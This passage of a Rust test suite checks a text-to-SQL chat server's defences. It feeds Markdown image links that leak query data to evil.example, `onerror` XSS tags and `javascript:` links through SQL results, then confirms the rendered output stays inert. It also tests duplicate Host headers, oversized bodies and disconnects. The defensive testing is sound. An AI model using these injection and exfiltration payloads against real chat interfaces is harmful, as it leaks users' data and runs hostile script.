        conn.execute("INSERT INTO t VALUES (?1, ?2)", rusqlite::params![i as i64, v]).unwrap();
    }
    drop(conn);
    let stub = vllm_submitting("look: ![x](http://evil.example/?think) <img src=x onerror=alert(2)> [a](javascript:x)");
    let s = serve(&stub, &["--db", &format!("h={}", db.display())]);
    let sql = "SELECT v AS \"<b>v</b>\", '![x](http://evil.example/?' || n || ')' AS leak FROM t ORDER BY n\n/*\n```\n<img src=x onerror=alert(3)>\n```````\n*/";
    let question = format!("Show everything. SQL<<{sql}>>SQL");
    let url = format!("{}/v1/chat/completions", s.url);
    let r = post(&url, &chat("h", &question, json!({"seed": 1})).to_string(), &[]);
    assert_eq!(r.status, 200, "{}", r.body);
    let answer = r.json();
    let content = answer["choices"][0]["message"]["content"].as_str().unwrap().to_string();
    assert_eq!(answer["sqale"]["episode"]["sql"], sql.trim(), "the episode submitted the hostile SQL");
    let md = render(&content);
    assert!(md.active.is_empty(), "active Markdown from the data: {:?}\n{content}\n{}", md.active, md.html);
    for tag in ["<img", "<a ", "<script", "<b>", "<i>"] {
        assert!(!md.html.contains(tag), "{tag} in the rendered answer:\n{}", md.html);
    }
    assert_eq!(md.code, vec![format!("{}\n", sql.trim())], "the SQL is one code block, whole:\n{content}");
    let mut want = vec!["<b>v</b>".to_string(), "leak".to_string()];
    for (i, v) in HOSTILE_CELLS.iter().enumerate() {
        want.push(v.replace('\n', " "));
        want.push(format!("![x](http://evil.example/?{i})"));
    }
    assert_eq!(md.cells, want, "each cell shows its value as written:\n{content}");
    // The reasoning is Markdown to a chat UI too: the thinking and the tool's results.
    let reasoning = answer["choices"][0]["message"]["reasoning_content"].as_str().unwrap();
    assert!(reasoning.contains("submit_sql"), "{reasoning}");
    let rd = render(reasoning);
    assert!(
        rd.active.iter().all(|a| a.starts_with("math")),
        "active Markdown in the reasoning: {:?}\n{reasoning}",
        rd.active
    );
    for tag in ["<img", "<a ", "<script"] {
        assert!(!rd.html.contains(tag), "{tag} in the rendered reasoning:\n{}", rd.html);
    }
    // Streamed: the same content, and the reasoning's pieces as inert.
    let mut body = chat("h", &question, json!({"seed": 1, "stream": true}));
    body["stream"] = json!(true);
    let mut c = connect(&s);
    c.write_all(post_request(&s, "/v1/chat/completions", &body).as_bytes()).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let (mut streamed, mut thought) = (String::new(), String::new());
    for line in BufReader::new(c).lines() {
        let Ok(line) = line else { break };
        let Some(data) = line.strip_prefix("data: ") else { continue };
        if data == "[DONE]" {
            break;
        }
        let chunk: Value = serde_json::from_str(data).unwrap();
        let delta = &chunk["choices"][0]["delta"];
        streamed.push_str(delta["content"].as_str().unwrap_or_default());
        thought.push_str(delta["reasoning_content"].as_str().unwrap_or_default());
    }
    assert_eq!(streamed, content);
    let td = render(&thought);
    assert!(td.active.iter().all(|a| a.starts_with("math")), "{:?}\n{thought}", td.active);
    assert!(!td.html.contains("<img") && !td.html.contains("<a "), "{}", td.html);
}

/// A client that sends its request and then closes its sending side (`shutdown(SHUT_WR)`, as
/// `nc -N` and some proxies do) gets its whole answer: a chat completion, a streamed one, and
/// `/v1/ask`, with the answer coming after the close. (Before, the chat got 0 bytes and was
/// counted as cancelled.)
#[test]
fn a_client_that_closes_its_sending_side_gets_its_answer() {
    let gate = Arc::new(Gate::default());
    let stub = vllm(gate.clone());
    let s = serve(&stub, &["--parallel", "3"]);
    let requests = [
        ("chat", post_request(&s, "/v1/chat/completions", &chat("demo", "HOLD chat", json!({})))),
        (
            "streamed chat",
            post_request(&s, "/v1/chat/completions", &chat("demo", "HOLD stream", json!({"stream": true}))),
        ),
        ("ask", post_request(&s, "/v1/ask", &json!({"question": "HOLD ask", "db": "demo"}))),
    ];
    let clients: Vec<_> = requests
        .iter()
        .map(|(what, req)| {
            let mut c = connect(&s);
            c.write_all(req.as_bytes()).unwrap();
            c.shutdown(std::net::Shutdown::Write).unwrap();
            (*what, c)
        })
        .collect();
    assert!(s.wait_metric("sqale_episodes_running", 3.0, Duration::from_secs(20)), "{}", s.log.lock().unwrap());
    std::thread::sleep(Duration::from_millis(300));
    gate.open();
    for (what, mut c) in clients {
        c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let mut out = Vec::new();
        let _ = c.read_to_end(&mut out);
        let text = String::from_utf8_lossy(&out);
        assert!(text.starts_with("HTTP/1.1 200"), "{what}: {text:?}");
        match what {
            "chat" => assert!(text.contains("SELECT 1 AS one") && text.contains("chat.completion"), "{text}"),
            "streamed chat" => assert!(text.contains("data: [DONE]") && text.contains("SELECT 1 AS one"), "{text}"),
            _ => assert!(text.contains("\"sql\":\"SELECT 1 AS one\""), "{text}"),
        }
    }
    assert_eq!(s.metric("sqale_episodes_failed_total{reason=\"cancelled\"}").unwrap_or(0.0), 0.0);
    // A GET sent the same way, as before.
    let mut c = connect(&s);
    c.write_all(format!("GET /health HTTP/1.1\r\nHost: {}\r\n\r\n", addr(&s)).as_bytes()).unwrap();
    c.shutdown(std::net::Shutdown::Write).unwrap();
    let mut out = String::new();
    let _ = c.read_to_string(&mut out);
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
}

/// A streamed request whose client went away while its request waited in the queue (its input
/// ended, nothing more to read) leaves the queue within a second: the server probes the
/// connection with a comment as soon as the input ends, and the second write fails.
#[test]
fn a_stream_whose_client_left_is_noticed_at_once() {
    let gate = Arc::new(Gate::default());
    let stub = vllm(gate.clone());
    let s = serve(&stub, &["--parallel", "1", "--queue", "2"]);
    let mut running = connect(&s);
    running.write_all(post_request(&s, "/v1/ask", &json!({"question": "HOLD", "db": "demo"})).as_bytes()).unwrap();
    assert!(s.wait_metric("sqale_episodes_running", 1.0, Duration::from_secs(20)));
    let mut c = connect(&s);
    c.write_all(post_request(&s, "/v1/chat/completions", &chat("demo", "queued", json!({"stream": true}))).as_bytes())
        .unwrap();
    assert!(s.wait_metric("sqale_queue_depth", 1.0, Duration::from_secs(20)));
    // Read what was sent (the head and the first chunk), so that closing sends no reset.
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut buf = [0u8; 4096];
    let n = c.read(&mut buf).unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    drop(c);
    let start = Instant::now();
    assert!(
        s.wait_metric("sqale_queue_depth", 0.0, Duration::from_secs(5)),
        "the request of a client that left still waits"
    );
    assert!(start.elapsed() < Duration::from_secs(5));
    assert_eq!(s.metric("sqale_episodes_failed_total{reason=\"cancelled\"}"), Some(1.0));
    gate.open();
    let mut out = String::new();
    running.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let _ = running.read_to_string(&mut out);
    assert!(out.starts_with("HTTP/1.1 200"), "the running episode goes on: {out}");
}

/// A `Content-Length` over `--max-body-bytes` is answered 413 at once, from the header alone,
/// and the connection closed, on every path: forty such requests with no body cannot hold the
/// connections under the cap. (Before, each waited for its body and got a 408 after the 10 s body
/// timeout, holding `/health` off for 9.5 s under `--max-connections 30`.)
#[test]
fn a_declared_body_over_the_limit_is_refused_at_once() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &["--max-body-bytes", "1000", "--max-connections", "30"]);
    let paths = ["/v1/ask", "/v1/chat/completions", "/health", "/nothing"];
    let head = |path: &str| {
        format!(
            "POST {path} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n",
            addr(&s)
        )
    };
    // One by one: each answered 413 at once, and its connection closed.
    for path in paths {
        let mut c = connect(&s);
        c.write_all(head(path).as_bytes()).unwrap();
        c.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let start = Instant::now();
        let mut out = Vec::new();
        let _ = c.read_to_end(&mut out);
        let text = String::from_utf8_lossy(&out);
        assert!(text.starts_with("HTTP/1.1 413"), "{path}: {text:?}");
        assert!(text.contains("100000") && text.contains("--max-body-bytes"), "{path}: {text}");
        assert!(start.elapsed() < Duration::from_secs(2), "{path}: took {:?}", start.elapsed());
    }
    // Forty at once, over the cap of 30: /health answers at once beside them, and none of them
    // waits for its body (each is answered 413, or closed to make room before it was read).
    let mut held = Vec::new();
    for i in 0..40 {
        let mut c = connect(&s);
        c.write_all(head(paths[i % 4]).as_bytes()).unwrap();
        held.push(c);
    }
    let start = Instant::now();
    let (status, _) = get(&format!("{}/health", s.url), None);
    assert_eq!(status, 200);
    assert!(start.elapsed() < Duration::from_secs(2), "/health took {:?}", start.elapsed());
    let mut refused = 0;
    for mut c in held {
        c.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let mut out = Vec::new();
        let _ = c.read_to_end(&mut out);
        let text = String::from_utf8_lossy(&out);
        assert!(text.is_empty() || text.starts_with("HTTP/1.1 413"), "{text:?}");
        refused += usize::from(!text.is_empty());
    }
    assert!(refused >= 10, "only {refused} of 40 answered 413");
}

/// Two `Host` headers are a 400 (RFC 9112, 3.2), whichever comes first and whatever
/// `--allow-host` allows. (Before, the allowed name then `evil.com` got 200.)
#[test]
fn two_host_headers_are_refused() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &[]);
    let mine = format!("Host: {}", addr(&s));
    for pair in [[mine.as_str(), "Host: evil.com"], ["Host: evil.com", mine.as_str()], [mine.as_str(), mine.as_str()]] {
        let (status, body) = raw_get(&s, "/health", &pair);
        assert_eq!(status, 400, "{pair:?}: {body}");
        assert!(serde_json::from_str::<Value>(&body).unwrap()["error"].as_str().unwrap().contains("2 Host headers"));
    }
    let any_stub = vllm(Arc::default());
    let any = serve(&any_stub, &["--allow-host", "*"]);
    let (status, _) = raw_get(&any, "/health", &["Host: a.example", "Host: b.example"]);
    assert_eq!(status, 400);
}

/// Under OpenAI's paths every answer is in OpenAI's shape: `/v1/models/NAME` is the model (or
/// its 404), and `/v1/completions`, `/v1/embeddings` say what to call instead. (Before, they
/// answered in sqale's own shape, and an SDK showed a bare "Error code: 404".)
#[test]
fn openai_paths_answer_in_openai_shape() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &[]);
    let (status, body) = get(&format!("{}/v1/models/demo", s.url), None);
    assert_eq!(status, 200, "{body}");
    let model: Value = serde_json::from_str(&body).unwrap();
    assert_eq!((model["id"].as_str(), model["object"].as_str()), (Some("demo"), Some("model")), "{body}");
    let openai_error = |status: u16, body: &str| -> Value {
        let v: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"));
        let e = v["error"].clone();
        assert!(e.is_object(), "not OpenAI's shape: {body}");
        for k in ["message", "type", "param", "code"] {
            assert!(e.get(k).is_some(), "no {k}: {body}");
        }
        assert_eq!(e["type"], if status == 404 { "not_found_error" } else { "invalid_request_error" });
        e
    };
    let (status, body) = get(&format!("{}/v1/models/nosuch", s.url), None);
    assert_eq!(status, 404);
    let e = openai_error(404, &body);
    assert_eq!(e["code"], "model_not_found");
    assert!(e["message"].as_str().unwrap().contains("demo"), "{body}");
    for (path, says) in [("/v1/completions", "/v1/chat/completions"), ("/v1/embeddings", "no embeddings")] {
        let r = post(&format!("{}{path}", s.url), "{\"model\": \"demo\", \"prompt\": \"q\"}", &[]);
        assert_eq!(r.status, 404, "{path}: {}", r.body);
        let e = openai_error(404, &r.body);
        assert!(e["message"].as_str().unwrap().contains(says), "{path}: {}", r.body);
    }
    // sqale's own paths keep sqale's shape.
    let (status, body) = get(&format!("{}/v1/nothing", s.url), None);
    assert_eq!(status, 404);
    assert!(serde_json::from_str::<Value>(&body).unwrap()["error"].is_string(), "{body}");
}

/// hyper's own answers to what it cannot parse have a body saying what is wrong: headers over
/// the limit (431) and a raw 0xff byte in the request line (400). (Before, both were empty.)
#[test]
fn unparsable_requests_are_told_why() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &[]);
    let big = format!("GET /health HTTP/1.1\r\nHost: {}\r\nX-Big: {}\r\n\r\n", addr(&s), "a".repeat(40 * 1024));
    let (status, body) = raw_bytes(&s, big.as_bytes());
    assert_eq!(status, 431, "{body}");
    let v: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("431 body not JSON ({e}): {body:?}"));
    assert_eq!(v["status"], 431);
    assert!(v["error"].as_str().unwrap().contains("headers"), "{v}");
    let many: String = (0..120).map(|i| format!("X-H{i}: v\r\n")).collect();
    let (status, body) = raw_bytes(&s, format!("GET /health HTTP/1.1\r\nHost: h\r\n{many}\r\n").as_bytes());
    assert_eq!(status, 431, "{body}");
    assert!(body.contains("100 headers"), "{body}");
    for bad in [&b"GET /\xff HTTP/1.1\r\nHost: h\r\n\r\n"[..], b"GET /health HTTP/1.1\r\nHo\xffst: h\r\n\r\n"] {
        let (status, body) = raw_bytes(&s, bad);
        assert_eq!(status, 400, "{body}");
        let v: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("400 body not JSON ({e}): {body:?}"));
        assert!(v["error"].as_str().unwrap().contains("not valid HTTP"), "{v}");
    }
    let (status, _) = get(&format!("{}/health", s.url), None);
    assert_eq!(status, 200);
}

/// Chat fields an episode cannot honour are refused with OpenAI's 400 naming the field (its
/// `param`) and what to send instead, and so is a sampling field of the wrong type; the
/// harmless values are accepted. `max_tokens` out of range is named as such. (Before, all were
/// accepted silently, and `max_tokens: 10^12` was called "max_episode_tokens".)
#[test]
fn chat_fields_that_cannot_be_honoured_are_refused() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &[]);
    let url = format!("{}/v1/chat/completions", s.url);
    for (field, value) in [
        ("tool_choice", json!("required")),
        ("tool_choice", json!({"type": "function", "function": {"name": "f"}})),
        ("tools", json!([{"type": "function", "function": {"name": "f"}}])),
        ("response_format", json!({"type": "json_object"})),
        ("stop", json!(["\n"])),
        ("stop", json!("x")),
        ("logprobs", json!(true)),
        ("top_logprobs", json!(2)),
        ("temperature", json!("hot")),
        ("temperature", json!(7)),
        ("top_p", json!([1])),
        ("logit_bias", json!({"50256": -100})),
        ("audio", json!({"voice": "alloy"})),
        ("max_tokens", json!(1_000_000_000_000i64)),
        ("max_completion_tokens", json!(0)),
    ] {
        let mut fields = serde_json::Map::new();
        fields.insert(field.to_string(), value.clone());
        let r = post(&url, &chat("demo", "q", Value::Object(fields)).to_string(), &[]);
        assert_eq!(r.status, 400, "{field} {value}: {}", r.body);
        let e = &r.json()["error"];
        assert_eq!(e["param"], field, "{}", r.body);
        assert_eq!(e["type"], "invalid_request_error");
        let message = e["message"].as_str().unwrap();
        assert!(message.starts_with(field), "{field}: {message}");
        assert!(!message.contains("max_episode_tokens"), "{message}");
    }
    let r = post(&url, &chat("demo", "q", json!({"max_tokens": 1_000_000_000_000i64})).to_string(), &[]);
    assert!(r.json()["error"]["message"].as_str().unwrap().contains("1 to 4096"), "{}", r.body);
    for harmless in [
        json!({"tool_choice": "none", "logprobs": false, "temperature": 0.7, "top_p": 1, "stop": null}),
        json!({"tool_choice": "auto", "tools": [], "response_format": {"type": "text"}, "user": "u", "presence_penalty": 0}),
    ] {
        let r = post(&url, &chat("demo", "q", harmless.clone()).to_string(), &[]);
        assert_eq!(r.status, 200, "{harmless}: {}", r.body);
    }
}

/// An Authorization header that is not text (a key ending in a 0xff byte) is named as such,
/// not as a missing key.
#[test]
fn a_key_that_is_not_text_is_named_as_such() {
    let dir = tempfile::tempdir().unwrap();
    let (_stub, s) = serve_with_key(dir.path());
    let mut req = format!("GET /v1/databases HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n", addr(&s)).into_bytes();
    req.extend_from_slice(b"Authorization: Bearer s3cret-key\xff\r\n\r\n");
    let (status, body) = raw_bytes(&s, &req);
    assert_eq!(status, 401, "{body}");
    let message = serde_json::from_str::<Value>(&body).unwrap()["error"].as_str().unwrap().to_string();
    assert!(message.contains("not valid text") && !message.contains("missing"), "{message}");
    let (status, body) = raw_get(&s, "/v1/databases", &[&format!("Host: {}", addr(&s)), "Authorization: Token k"]);
    assert_eq!(status, 401);
    assert!(body.contains("not 'Bearer <key>'"), "{body}");
}

/// A client that sends a whole body over the limit without waiting reads its 413: the server
/// closes the connection by ending its output and dropping what the client still sends until
/// the client closes (a socket closed with unread input resets the connection, and on some
/// systems the reset takes the answer with it; Linux keeps it readable, so this guards the
/// answer rather than the reset).
#[test]
fn a_body_over_the_limit_sent_whole_still_gets_its_413() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &["--max-body-bytes", "1000"]);
    for _ in 0..5 {
        let mut c = connect(&s);
        let body = "x".repeat(4 << 20);
        let head = format!(
            "POST /v1/ask HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            addr(&s),
            body.len()
        );
        let mut writer = c.try_clone().unwrap();
        let sender = std::thread::spawn(move || {
            let _ = writer.write_all(head.as_bytes());
            let _ = writer.write_all(body.as_bytes());
        });
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut out = Vec::new();
        let mut buf = [0u8; 4096];
        // Read until the answer's end (the server closes its side after it).
        loop {
            match c.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => out.extend_from_slice(&buf[..n]),
            }
        }
        let text = String::from_utf8_lossy(&out);
        assert!(text.starts_with("HTTP/1.1 413"), "{text:?}");
        assert!(text.contains("--max-body-bytes"), "{text}");
        drop(c);
        sender.join().unwrap();
    }
}
